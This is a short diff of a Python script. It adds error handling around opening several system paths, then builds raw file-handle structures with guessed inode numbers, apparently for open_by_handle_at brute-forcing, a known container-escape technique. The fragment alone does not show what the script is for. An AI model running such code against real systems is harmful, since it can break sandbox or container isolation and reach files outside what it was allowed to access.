@@ -19,7 +19,10 @@ import sys
 import tempfile
 
 for path in (os.__file__, sys.executable, tempfile.gettempdir(), "/dev/null", "/"):
-    mount = os.open(path, os.O_RDONLY)
+    try:
+        mount = os.open(path, os.O_RDONLY)
+    except OSError:
+        continue
     for inode in (2, 1, 64, 128, 256):
         for kind, body in ((1, struct.pack("II", inode, 0)), (0xFB, struct.pack("QI", inode, 0)), (0x81, struct.pack("QI", inode, 0))):
             handle = ctypes.create_string_buffer(struct.pack("Ii", len(body), kind) + body, 8 + 128)
